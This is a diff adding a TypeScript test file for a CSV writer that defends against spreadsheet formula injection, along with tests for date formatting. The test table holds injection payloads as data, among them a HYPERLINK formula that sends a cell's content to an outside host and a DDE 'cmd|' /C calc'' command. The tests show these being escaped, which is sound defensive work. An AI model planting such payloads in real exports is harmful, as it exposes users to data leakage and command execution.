@@ -1,0 +1,86 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvLine } from './csv.ts';
+import { formatDate } from './dates.ts';
+
+/** Reads one line as RFC 4180 has it. */
+function parse(line: string): string[] {
+  const cells: string[] = [];
+  expect(line.endsWith('\r\n')).toBe(true);
+  let rest = `${line.slice(0, -2)},`;
+  while (rest !== '') {
+    const [all = '', quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*)),/.exec(rest) ?? [];
+    expect(all).not.toBe('');
+    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
+    rest = rest.slice(all.length);
+  }
+  return cells;
+}
+
+describe('a line of CSV', () => {
+  it('is read back as the texts that were written, or as them behind an apostrophe', () => {
+    const texts = fc.array(fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom(...'",\r\n =+-@\tx1') })), {
+      minLength: 1,
+    });
+    fc.assert(
+      fc.property(texts, (cells) => {
+        const read = parse(csvLine(cells));
+        expect(read.map((text, index) => (text === cells[index] ? text : text.slice(1)))).toEqual(cells);
+      }),
+    );
+  });
+
+  it('holds no cell that a spreadsheet would run', () => {
+    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝');
+    fc.assert(
+      fc.property(start, fc.string(), (first, rest) => {
+        const [read = ''] = parse(csvLine([first + rest]));
+        const runs = /^[=+\-@\t\r\n＝]/.test(read);
+        // What is left alone are numbers: nothing in them names a function, a cell or a program.
+        if (runs) expect(read).toMatch(/^[+-][\d.,e+\-%() ]*$/i);
+        if (runs) expect(read).not.toMatch(/[a-df-z!|'"]/i);
+      }),
+    );
+  });
+
+  it.each([
+    ['=HYPERLINK("http://x/?"&A1)', `"'=HYPERLINK(""http://x/?""&A1)"`],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['+cmd', "'+cmd"],
+    ['-2+3+cmd', "'-2+3+cmd"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['- a point of a list', "'- a point of a list"],
+    ['-5', '-5'],
+    ['+3.25', '+3.25'],
+    ['-1,000.50', '"-1,000.50"'],
+    ['-1e5', '-1e5'],
+    ['+14155550100', '+14155550100'],
+    ['+1 (415) 555-0100', '+1 (415) 555-0100'],
+    ['a=b', 'a=b'],
+    ['', ''],
+    [' padded', '" padded"'],
+  ])('%j is written as %s', (text, written) => {
+    expect(csvLine([text])).toBe(`${written}\r\n`);
+  });
+
+  it('writes numbers, booleans, nulls, lists and objects', () => {
+    expect(csvLine([-5, 0.5, true, null, undefined, ['a', 'b'], { a: 1 }])).toBe(
+      `-5,0.5,true,,,"a, b","{""a"":1}"\r\n`,
+    );
+  });
+});
+
+describe('a moment', () => {
+  it.each([
+    ['original', '2024-01-31T10:00:00.123456+00:00', '2024-01-31 10:00:00.123456+00:00'],
+    ['iso8601', '2024-01-31T10:00:00.123456+00:00', '2024-01-31T10:00:00+00:00'],
+    ['excel', '2024-01-31T10:00:00.123456+00:00', '2024-01-31 10:00:00 AM'],
+    ['excel', '2024-01-31T00:05:06.000000+00:00', '2024-01-31 12:05:06 AM'],
+    ['excel', '2024-01-31T12:00:00.000000+00:00', '2024-01-31 12:00:00 PM'],
+    ['excel', '2024-01-31T23:59:59.999999+00:00', '2024-01-31 11:59:59 PM'],
+    ['excel', '2024-01-31', '2024-01-31'],
+    ['original', '2024-01-31', '2024-01-31'],
+  ] as const)('as %s: %s is %s', (format, text, written) => {
+    expect(formatDate(text, format)).toBe(written);
+  });
+});
